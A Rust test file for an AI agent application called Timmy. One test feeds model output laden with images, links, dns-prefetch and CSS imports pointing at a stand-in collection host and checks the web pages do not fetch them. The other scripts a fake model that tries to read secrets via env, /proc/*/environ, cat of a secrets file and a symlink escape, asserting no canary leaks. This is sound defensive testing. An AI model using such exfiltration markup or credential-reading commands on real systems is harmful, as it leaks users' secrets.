//! Ways out for what nobody gave away: pictures and links in what Timmy writes (29), and secrets in whatever leaves the
//! process (30).

use std::os::unix::fs::PermissionsExt as _;
use std::process::Stdio;

use timmy_testkit::FakeClock;

use super::*;
use crate::peer::{Peer, Say, told};
use crate::support::{Server, home, run, timmy};
use crate::web::session;

/// What a model writes to have a browser carry something away.
const CARRIES: &str = "Done. ![x](http://collect.example.org/KELP-7f3a.png) ![y][z] <img src=http://collect.example.org/KELP> \
    [click](http://collect.example.org/?d=KELP-7f3a) <link rel=dns-prefetch href=//KELP.collect.example.org>\n\n\
    [z]: http://collect.example.org/KELP.gif\n<style>@import url(http://collect.example.org/KELP)</style>";

// shows: approvals: case 29: a picture, link or style in a result, thought or answer makes no browser ask anybody
#[tokio::test(flavor = "multi_thread")]
async fn case_29_what_timmy_writes_makes_no_browser_ask_anybody() {
    let at = home();
    let mut engine = Engine::open(
        at.path(),
        FakeClock::default(),
        model((0..4).map(|_| says(CARRIES)).collect()),
        Settings::default(),
    );
    engine.run_only(&["work.processor", "talk.answer"]);
    let task = add(&engine, &CARRIES[..150]).await;
    refuse_all(&engine, task.id).await;
    assert_eq!(status(&engine, task.id).await, Some(Status::Completed));
    engine.ask("Tell me").await;
    engine.app.thinking.inject(CARRIES).await.expect("put in");
    engine.stop().await;
    let server = Server::start_with(at.path(), &crate::security::QUIET);
    let (cookie, _) = session(&server);
    let mut shown = 0;
    for path in ["/", "/tasks", &format!("/tasks/{}", task.id), "/talk", "/thinking", "/approvals", "/swarm/events"] {
        let headers = [("Cookie", cookie.as_str()), ("Accept", "text/html")];
        let head = server.head(path, &headers).join("\n");
        assert!(head.contains("img-src 'self'") && head.contains("default-src 'none'"), "{path}: {head}");
        let (code, body) = server.request("GET", path, &headers, None);
        assert_eq!(code, 200, "{path}");
        shown += usize::from(body.contains("collect.example.org"));
        let tags = body.split('<').skip(1).filter_map(|rest| rest.split('>').next());
        for tag in tags {
            let leads = ["=\"http://", "=\"https://", "=\"//", "url("].iter().any(|way| tag.contains(way));
            // A link waits for the owner's finger; everything else is asked for at once.
            let waits = tag.starts_with("a ") && !tag.contains("ping=");
            assert!(!leads || waits, "{path}: <{tag}>");
            assert!(!tag.contains("dns-prefetch") || tag.contains("&#60;"), "{path}: <{tag}>");
        }
    }
    assert!(shown >= 4, "{shown} pages show the words");
}

/// One secret for each place they lie in.
const CANARIES: [&str; 4] = ["CANARY-env-5d1c", "CANARY-key-91f0", "CANARY-file-77ab", "CANARY-pass-3e9d"];

// shows: approvals: case 30: of secrets in the environment, the secrets, a file and the password none reaches a model, a log, an event, a page or an export
#[test]
fn case_30_no_canary_leaves_by_any_way() {
    let (at, outer) = (home(), home());
    let work = outer.path().canonicalize().expect("there").join("work");
    fs::create_dir(&work).expect("made");
    let beside = work.with_file_name("secret.txt");
    fs::write(&beside, CANARIES[2]).expect("written");
    let (secret, secrets) = (beside.display().to_string(), at.path().join("secrets.toml").display().to_string());
    let links = work.join("link.txt");
    std::os::unix::fs::symlink(&beside, &links).expect("linked");
    let peer = Peer::start(move |request| {
        let tries = [
            ("run_command", json!({"argv": ["env"]})),
            ("run_command", json!({"argv": ["cat", "/proc/self/environ", "/proc/1/environ"]})),
            ("run_command", json!({"argv": ["cat", secret]})),
            ("run_command", json!({"argv": ["cat", secrets]})),
            ("run_command", json!({"argv": ["sh", "-c", "cat ../secret.txt link.txt /proc/*/environ; env"]})),
            ("read_file", json!({"path": secret})),
            ("read_file", json!({"path": "link.txt"})),
            ("read_file", json!({"path": secrets})),
            ("system_info", json!({})),
        ];
        match tries.get(told(request).len()) {
            Some((tool, args)) => Say::Calls(vec![(tool, args.clone())]),
            None => Say::Words("I looked everywhere.".to_owned()),
        }
    });
    peer.furnish(at.path(), &work, "[trust]\ngolden_timmy = true\n");
    let keys = format!("[provider.peer]\napi_key = {:?}\n", CANARIES[1]);
    fs::write(at.path().join("secrets.toml"), keys).expect("written");
    fs::set_permissions(at.path().join("secrets.toml"), fs::Permissions::from_mode(0o600)).expect("set");
    let mut command = timmy(at.path());
    command.args(["serve", "--port", "0"]).env("SECRET_CANARY", CANARIES[0]);
    let home_path = at.path().to_owned();
    let said = fs::File::create(outer.path().join("stderr.txt")).expect("made");
    let server = Server::of(command, Stdio::from(said), |_| home_path);
    let (code, _) = server.ask("PUT", "/api/login/password", Some(&json!({"password": CANARIES[3]})));
    assert_eq!(code, 200);
    let task = server.post("/api/tasks", &json!({"title": "Look around"}));
    let path = format!("/api/tasks/{}", task["id"].as_str().expect("an id"));
    server.wait_for(|| {
        // Every question gets a yes: what is asked about must be as harmless as what is not.
        for one in server.get("/api/approvals?status=pending")["items"].as_array().expect("items") {
            let body = json!({"password": CANARIES[3]});
            server.ask("POST", &format!("/api/approvals/{}/approve", one["id"].as_str().expect("an id")), Some(&body));
        }
        let now = server.get(&path)["status"].as_str().unwrap_or_default().to_owned();
        ["completed", "backlogged", "failed"].contains(&now.as_str()).then_some(())
    });
    assert!(server.get("/api/events?type=tool.*&limit=100")["items"].as_array().expect("items").len() >= 6);
    let pages = [
        "/",
        "/tasks",
        "/approvals",
        "/swarm/events",
        "/settings",
        "/health/page",
        "/metrics",
        "/api/events?limit=1000",
        &path,
    ];
    for page in pages {
        let (code, body) = server.request("GET", page, &[("Authorization", &format!("Bearer {}", server.token))], None);
        assert!(code == 200, "{page}: {code}");
        for canary in CANARIES {
            assert!(!body.contains(canary), "{canary} on {page}");
        }
    }
    assert_eq!(server.terminate(), Some(0));
    let heard = peer.heard();
    assert!(heard.len() > 1_000);
    let (code, out, err) = run(at.path(), &["backup"]);
    assert_eq!(code, 0, "{out}{err}");
    for canary in CANARIES {
        assert!(
            !heard.windows(canary.len()).any(|window| window == canary.as_bytes()),
            "{canary} was sent to the model"
        );
        for entry in
            fs::read_dir(at.path()).expect("read").flatten().filter(|entry| entry.file_name() != "secrets.toml")
        {
            assert!(!holds(&entry.path(), canary), "{canary} in {}", entry.path().display());
        }
        assert!(!holds(&outer.path().join("stderr.txt"), canary), "{canary} was printed");
    }
}
